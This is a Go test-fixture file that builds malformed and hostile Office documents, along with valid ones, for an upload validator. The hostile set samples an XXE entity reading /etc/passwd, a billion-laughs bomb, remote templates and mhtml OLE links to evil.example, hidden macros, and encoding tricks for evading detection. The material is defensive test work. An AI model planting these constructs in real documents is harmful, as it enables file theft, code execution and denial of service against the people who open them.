package corpus

import (
	"encoding/binary"
	"slices"
	"strings"
	"unicode/utf16"
)

const (
	typeDOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	typeXLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	typePPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"

	relationTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	declaration   = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	doctype       = `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`
	ole           = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
)

// office is a package of Office Open XML: its main part, and parts that replace those of the same name or come behind.
func office(mainType, mainPart string, parts ...zipEntry) []byte {
	return zipOf(officeParts(mainType, mainPart, parts...)...)
}

func officeParts(mainType, mainPart string, parts ...zipEntry) []zipEntry {
	entries := []zipEntry{
		file("[Content_Types].xml", contentTypes(override("/"+mainPart, mainType))),
		file("_rels/.rels", relations(relation("officeDocument", mainPart, ""))),
		file(mainPart, declaration+"<document/>"),
	}
	for _, p := range parts {
		i := slices.IndexFunc(entries[:3], func(e zipEntry) bool { return e.name == p.name })
		if i < 0 {
			entries = append(entries, p)
			continue
		}
		entries[i] = p
	}
	return entries
}

func docx(parts ...zipEntry) []byte {
	return office(typeDOCX+".main+xml", "word/document.xml", parts...)
}
func xlsx(parts ...zipEntry) []byte { return office(typeXLSX+".main+xml", "xl/workbook.xml", parts...) }
func pptx(parts ...zipEntry) []byte {
	return office(typePPTX+".main+xml", "ppt/presentation.xml", parts...)
}

func contentTypes(more string) string {
	return declaration + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` + more + `</Types>`
}

func override(part, contentType string) string {
	return `<Override PartName="` + part + `" ContentType="` + contentType + `"/>`
}

func relations(list ...string) string {
	return declaration + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		strings.Join(list, "") + `</Relationships>`
}

func relation(kind, target, more string) string {
	return `<Relationship Id="r` + kind + `" Type="` + relationTypes + kind + `" Target="` + target + `" ` + more + `/>`
}

// related is a Word document with one relation of its main part.
func related(kind, target, more string) []byte {
	return docx(file("word/_rels/document.xml.rels", relations(relation(kind, target, more))))
}

// inUTF16 returns s with a byte order mark.
func inUTF16(s string) string {
	b := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func hostileOffice() []File {
	return slices.Concat(officeMacros(), officeMisnamed(), officeMainParts(), officeRelations(), officeObjects(), officeXML(),
		officeFields(), officeSlides(), officeFormulas(), officeLoads(), officeHiddenXML())
}

func badDocument(about string, b []byte) File {
	return File{About: about, Name: "a.docx", Type: typeDOCX, Content: b, Code: content}
}

func badWorkbook(about string, b []byte) File {
	return File{About: about, Name: "a.xlsx", Type: typeXLSX, Content: b, Code: content}
}

// typed is a document whose list of types has more entries.
func typed(more string) []byte {
	return docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", typeDOCX+".main+xml")+more)))
}

func officeMacros() []File {
	return []File{
		badDocument("a document with macros", docx(file("word/vbaProject.bin", ole))),
		badDocument("macros under the name of a picture", docx(file("word/media/image1.png", ole))),
		badDocument("macros by their data alone", docx(file("word/vbaData.xml", "<x/>"))),
		badDocument("a document with macros by its content type", office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")),
		badDocument("macros by the type of an extension", docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", typeDOCX+".main+xml")+
			`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`)), file("word/x.bin", "x"))),
		badDocument("a relation to macros", related("vbaProject", "x.bin", "")),
		badWorkbook("a macro sheet", xlsx(file("xl/macrosheets/sheet1.xml", "<x/>"))),
		badWorkbook("a macro sheet by its type", xlsx(file("[Content_Types].xml", contentTypes(override("/xl/workbook.xml", typeXLSX+".main+xml")+
			override("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))), file("xl/worksheets/sheet1.xml", "<x/>"))),
		badWorkbook("a binary workbook", office("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin")),
	}
}

func officeMisnamed() []File {
	late := append([]zipEntry{file("a.xml", "<a/>")}, officeParts(typeXLSX+".main+xml", "xl/workbook.xml")...)
	return []File{
		{About: "a document named as one with macros", Name: "a.docm", Type: typeDOCX, Content: docx(), Code: typeNotAllowed},
		{About: "a workbook named as one with macros", Name: "a.xlsm", Type: typeXLSX, Content: xlsx(), Code: typeNotAllowed},
		{About: "slides named as ones with macros", Name: "a.pptm", Type: typePPTX, Content: pptx(), Code: typeNotAllowed},
		{About: "a workbook named as a document", Name: "a.docx", Type: typeDOCX, Content: xlsx(), Code: typeNotAllowed},
		{About: "a document named as an archive", Name: "a.zip", Type: typeZIP, Content: docx(), Code: typeNotAllowed},
		{About: "a document named as a workbook", Name: "a.xlsx", Type: typeDOCX, Content: docx(), Code: typeMismatch},
		badDocument("a workbook named as a document, seen late", zipOf(late...)),
		badDocument("an archive named as a document", zipOf(hello)),
		badDocument("a template", office("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "word/document.xml")),
	}
}

func officeMainParts() []File {
	docMain := typeDOCX + ".main+xml"
	return []File{
		badDocument("a document without types", zipOf(officeParts(docMain, "word/document.xml")[1:]...)),
		badDocument("a document without its main part", zipOf(officeParts(docMain, "word/document.xml")[:2]...)),
		badDocument("a document whose relations lead to another part", docx(file("_rels/.rels", relations(relation("officeDocument", "word/other.xml", ""))), file("word/other.xml", "<x/>"))),
		badDocument("two main parts by type", docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", docMain)+override("/word/other.xml", docMain))), file("word/other.xml", "<x/>"))),
		badDocument("two main parts by relation", docx(file("_rels/.rels", relations(relation("officeDocument", "word/document.xml", ""), relation("officeDocument", "b.xml", ""))))),
	}
}

func officeRelations() []File {
	const external = `TargetMode="External"`
	return []File{
		badDocument("a template from elsewhere", docx(file("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", "https://evil.example/t.dotm", external))))),
		badDocument("a template from elsewhere, spelled in references", docx(file("word/_rels/settings.xml.rels",
			strings.ReplaceAll(relations(relation("attachedTemplate", "https://evil.example/", external)), "attached", "&#97;ttached")))),
		badDocument("a picture from elsewhere", related("image", "https://evil.example/a.png", external)),
		badDocument("something from elsewhere, spelled in references", related("image", "https://evil.example/", `TargetMode="&#69;xternal"`)),
		badDocument("a relation with two modes", related("image", "https://evil.example/", `TargetMode="Internal" TargetMode="External"`)),
		badDocument("a relation with a second type in another namespace", related("oleObject", "https://evil.example/",
			external+` xmlns:x="urn:x" x:Type="`+relationTypes+`hyperlink"`)),
		badDocument("relations in pieces", docx(file("word/_rels/document.xml.rels/[0].last.piece", "<Relationships/>"))),
		badDocument("relations of a hidden name", docx(file("word/_rels/document.xml.%72els", "<Relationships/>"))),
		badDocument("an object from elsewhere", related("oleObject", "mhtml:https://evil.example/a.html!x-usc:", external)),
		badDocument("a foreign document that is imported", related("aFChunk", "chunk.html", "")),
		badDocument("a template in relations in UTF-16", docx(file("word/_rels/settings.xml.rels", inUTF16(strings.Replace(
			relations(relation("attachedTemplate", "https://evil.example/t.dotm", external)), "UTF-8", "UTF-16", 1))))),
		badDocument("relations that are not well-formed", docx(file("word/_rels/document.xml.rels", "<Relationships><a></Relationships>"))),
		badWorkbook("a link to another workbook", xlsx(file("xl/_rels/workbook.xml.rels", relations(relation("externalLink", "externalLinks/externalLink1.xml", ""))))),
	}
}

func officeObjects() []File {
	return []File{
		badDocument("an embedded object", docx(file("word/embeddings/oleObject1.bin", ole))),
		badDocument("an embedded object under another name", docx(file("word/embeddings/data.bin", ole+"x"))),
		badDocument("an ActiveX control", docx(file("word/activeX/activeX1.xml", "<x/>"))),
		badDocument("a program inside", docx(file("word/media/image1.emf", "MZ\x90\x00"))),
		badDocument("an archive inside", docx(file("word/embeddings/a.zip", string(zipOf(hello))))),
		badDocument("a document with macros inside", docx(file("word/embeddings/a.docx", string(docx(file("word/vbaProject.bin", ole)))))),
		badDocument("a workbook that is named as a document inside", docx(file("word/embeddings/a.docx", string(xlsx())))),
		badDocument("documents two levels deep", docx(file("word/embeddings/a.docx", string(docx(file("word/embeddings/a.xlsx", string(xlsx()))))))),
	}
}

func officeXML() []File {
	const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>`
	return []File{
		badDocument("an external entity in the types", docx(file("[Content_Types].xml", declaration+doctype+"<Types>&a;</Types>"))),
		badDocument("an external entity in the text", docx(file("word/document.xml", declaration+"<!-- x -->"+doctype+"<x>&a;</x>"))),
		badDocument("an external entity in UTF-16", docx(file("word/document.xml", inUTF16(`<?xml version="1.0" encoding="UTF-16"?>`+doctype+"<x>&a;</x>")))),
		badDocument("a billion laughs", docx(file("word/document.xml", declaration+laughs))),
		badDocument("a part in EBCDIC", docx(file("word/document.xml", "L\xa7\x94\x93"))), // "<xml"
		badDocument("a part whose XML begins late", docx(file("word/document.xml", "<!--"+strings.Repeat("x", 5000)+"-->"+doctype+"<x/>"))),
	}
}

func goodOffice() []File {
	docMain := typeDOCX + ".main+xml"
	entries := officeParts(docMain, "word/document.xml")
	last := append(slices.Clone(entries[1:]), entries[0])
	late := officeParts(typeXLSX+".main+xml", "xl/workbook.xml")
	padded := officeParts(docMain, "word/document.xml")
	padded[0].extra = field(0xa220, make([]byte, 520)...)
	long := file("docProps/app.xml", declaration+"<a>"+noise(20<<10)+"</a>")
	chart := string(xlsx())
	byDefault := strings.Replace(contentTypes(override("/docProps/app.xml", "application/xml")), `"application/xml"`, `"`+docMain+`"`, 1)
	strict := strings.ReplaceAll(relations(relation("officeDocument", "/word/document.xml", "")), relationTypes, "http://purl.oclc.org/ooxml/officeDocument/relationships/")
	link := relation("hyperlink", "https://example.com/?a=b&amp;c=d", `TargetMode="External"`)
	good := func(about, name, mediaType string, b []byte) File {
		return File{About: about, Name: name, Type: mediaType, Content: b}
	}
	return []File{
		good("a small document", "a.docx", typeDOCX, docx()),
		good("a document in a capital name", "LETTER.DOCX", typeDOCX, docx()),
		good("types that come last", "žádost.docx", typeDOCX, zipOf(last...)),
		good("a workbook whose first parts say nothing", "a.xlsx", typeXLSX, zipOf(append([]zipEntry{long}, late...)...)),
		good("padding as Office leaves it", "a.docx", typeDOCX, zipOf(padded...)),
		good("a main part by the default type", "a.docx", typeDOCX, docx(file("[Content_Types].xml", byDefault))),
		good("strict Open XML", "a.docx", typeDOCX, docx(file("_rels/.rels", strict))),
		good("relations with a byte order mark", "a.docx", typeDOCX, docx(file("word/_rels/document.xml.rels", "\xef\xbb\xbf"+relations(link)))),
		good("hyperlinks", "a.docx", typeDOCX, docx(file("word/_rels/document.xml.rels", relations(link)))),
		good("a name with a blank in percent form", "a.docx", typeDOCX, docx(file("word/media/image%201.png", "\x89PNG\r\n\x1a\n"))),
		good("custom XML in UTF-16", "a.docx", typeDOCX, docx(file("customXml/item1.xml", inUTF16("<a>b</a>")))),
		good("a compressed metafile and printer settings", "a.docx", typeDOCX, docx(file("word/media/image1.emz", "\x1f\x8b\x08\x00"), file("word/printerSettings1.bin", "P\x00r\x00"))),
		good("fields, and a template of the author's disk", "a.docx", typeDOCX, docx(
			file("word/document.xml", declaration+"<w:document "+wordSpace+">"+fieldRuns(" PA", "GE ")+fieldRuns(`HYPERLINK "https://example.com/" \o "see: it"`)+
				fieldRuns(`INCLUDEPICTURE "C:\\a.png" \* MERGEFORMAT`)+fieldRuns(" ADDIN ZOTERO "+strings.Repeat("x", 9000))+fieldRuns("_Toc1")+"</w:document>"),
			file("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", `file:///C:\Users\a\t.dotm`, isExternal))))),
		good("a template of a Mac", "a.docx", typeDOCX, docx(file("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", `file:////Users/a/t.dotm`, isExternal))))),
		good("types that no part has, as SheetJS writes", "a.xlsx", typeXLSX, xlsx(file("[Content_Types].xml", contentTypes(override("/xl/workbook.xml", typeXLSX+".main+xml")+
			`<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>`)))),
		good("backslashes in names of parts", "a.xlsx", typeXLSX, xlsx(file(`xl\worksheets\sheet1.xml`, "<x/>"))),
		good("formulas", "a.xlsx", typeXLSX, xlsx(file("xl/worksheets/sheet1.xml", declaration+"<worksheet "+sheetSpace+`><f>SUM(A1:B2)&amp;"a|b"&amp;'x|y'!A1&amp;T[a|b]</f><v>a|b</v></worksheet>`))),
		good("a drawing with a line break that does not end", "a.xlsx", typeXLSX, xlsx(file("xl/drawings/vmlDrawing1.vml", "<xml "+vmlSpace+"><v:shape>a<br>b<br></v:shape></xml>"))),
		good("a slide that moves on", "a.pptx", typePPTX, pptx(file("ppt/slides/slide1.xml", "<p:sld "+slideSpace+`><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkHover r:id="" action="ppaction://hlinksldjump"/></p:sld>`))),
		good("a blank picture of 3 MiB", "a.docx", typeDOCX, docx(repeated("word/media/image1.emf", "\x01\x00", 3))),
		good("relations that go up from the root, as LibreOffice writes", "a.docx", typeDOCX, docx(file("_rels/.rels", relations(relation("officeDocument", "word/document.xml", ""), relation("customXml", "../customXml/item1.xml", ""))))),
		good("slides with the numbers of a chart", "a.pptx", typePPTX, pptx(store("ppt/embeddings/Microsoft_Excel_Sheet.xlsx", chart))),
		good("the same, packed again", "b.pptx", typePPTX, pptx(file("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", chart))),
	}
}
